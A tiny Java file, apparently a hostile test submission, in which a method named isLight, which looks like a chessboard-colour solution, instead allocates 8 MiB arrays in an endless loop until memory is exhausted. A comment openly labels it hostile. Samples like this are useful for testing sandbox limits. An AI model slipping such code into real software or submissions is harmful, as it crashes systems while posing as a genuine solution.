// Hostile: keeps allocating and holding memory until the heap is gone.
import java.util.ArrayList;
import java.util.List;

public class SquareColor {
    private static final List<long[]> HOARD = new ArrayList<>();

    public static boolean isLight(String coordinate) {
        while (true) {
            HOARD.add(new long[1 << 20]); // 8 MiB at a time
        }
    }
}
